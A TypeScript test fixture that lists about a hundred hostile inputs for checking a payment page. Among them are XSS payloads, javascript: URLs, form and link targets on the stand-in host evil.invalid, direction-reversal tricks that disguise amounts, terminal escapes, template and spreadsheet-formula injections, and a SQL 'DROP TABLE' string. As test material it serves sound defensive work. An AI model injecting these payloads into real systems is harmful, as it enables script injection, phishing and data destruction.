/** The function that a payload calls when it runs. A page that calls it has let a stranger in. */
export const ALARM = 'paydeskAlarm';

/** A host that no page may ask. */
export const EVIL = 'https://evil.invalid';

const RUN = `${ALARM}()`;

/** Markup that would run a script, ask another host or cover the page. */
const MARKUP = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</title></style></script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `'"><img src=x onerror="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<iframe src="${EVIL}">`,
  `<object data="${EVIL}">`,
  `<embed src="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}/a.css">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}"><button>Pay</button>`,
  `<a href="${EVIL}" ping="${EVIL}">Paid</a>`,
  '<dialog open>Your session has ended</dialog>',
  `<!--><script>${RUN}</script>-->`,
  '<plaintext>',
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  '&#x3C;b&#x3E;bold&#x3C;/b&#x3E; &rlm;&zwj;&nbsp;',
];

/** Addresses that run a script, and others that look like something else. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  `blob:${EVIL}/1`,
  '//evil.invalid/x',
  'https://shop.example@evil.invalid/till',
  'https://аррӏе.example/till',
  'https://xn--80ak6aa92e.example/till',
];

/** Marks that turn the direction of writing, so that an amount or a name reads as another. */
const TURNS = [
  '\u202e00.001 RUE diaP',
  'Bank \u202eecivres\u202c',
  '\u202dshop\u202c',
  '\u2066\u2067isolated',
  '\u2069\u2069\u2069out',
  '\u200fright\u200eleft',
  '\u061c١٢٣',
  'שלום 100',
  'مرحبا €5.00',
  'Paid 5.00 \u202e00.5 ton',
  'a\u202ab\u202bc\u202dd\u202ee',
  '\u2068first\u2069 \u2067second',
];

/** Characters that nobody sees. */
const INVISIBLE = [
  'pay\u200bdesk',
  'pay\u200c\u200ddesk',
  '\ufeffBank',
  'Ba\u00adnk',
  '\u2060\u2061\u2062\u2063\u2064',
  '\u3164\u3164\u3164.',
  '\u{e0041}\u{e0042}tags',
  'Bank\u180e',
  '\u115f\u1160.',
  'a\u2028b\u2029c',
];

/** Words that are too long for lines and columns. */
const LONG = [
  'W'.repeat(95),
  'i'.repeat(95),
  '_'.repeat(95),
  '9'.repeat(95),
  '/'.repeat(95),
  'ﷺ'.repeat(90),
  '\u00a0'.repeat(40).concat('end'),
  'a'.repeat(30).concat('-'.repeat(60)),
  `https://${'a'.repeat(60)}.example/${'b'.repeat(20)}`,
  '漢'.repeat(90),
];

/** Characters that command a terminal or have no partner. The node refuses U+0000 in every text, so it shows none. */
const CONTROLS = [
  'a\u0001b',
  'a\u0007\u0008b',
  '\u001b[2J\u001b[31mred',
  '\u009b31m',
  'a\r\nb',
  'a\tb\vc\fd',
  '\ud800alone',
  'alone\udfff',
  '\uffff\ufffe',
  '\u007f.',
];

/** Letters of several parts. */
const PARTS = [
  '👩‍👩‍👧‍👦'.repeat(4),
  '🏳️‍🌈 🏴‍☠️',
  '👍🏽👍🏿',
  '🇩🇪🇫🇷🇯',
  `Z${'\u0350\u0363\u0359'.repeat(20)}algo`,
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  'क्षत्रिय',
  '\u20e3\u20dd\u20e0x',
];

/** Text that style sheets, templates, formulas, shells and databases would obey. */
const CODE = [
  '</style><style>*{display:none}',
  'expression(alert(1))',
  `x;background:url(${EVIL}/a.png)`,
  '{{constructor.constructor("return 1")()}}',
  '$'.concat('{7*7}'),
  '<%= 7*7 %>',
  '#{7*7} {7*7} [[7*7]]',
  '%s %n %x %%',
  '=HYPERLINK("https://evil.invalid","Paid")',
  "'; DROP TABLE accounts; --",
];

/** Names that every object has. */
const MEMBERS = ['constructor', 'toString', 'hasOwnProperty', 'null'];

/** A hundred texts as a stranger would choose them. Each has at most 100 characters. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...MARKUP,
  ...ADDRESSES,
  ...TURNS,
  ...INVISIBLE,
  ...LONG,
  ...CONTROLS,
  ...PARTS,
  ...CODE,
  ...MEMBERS,
];
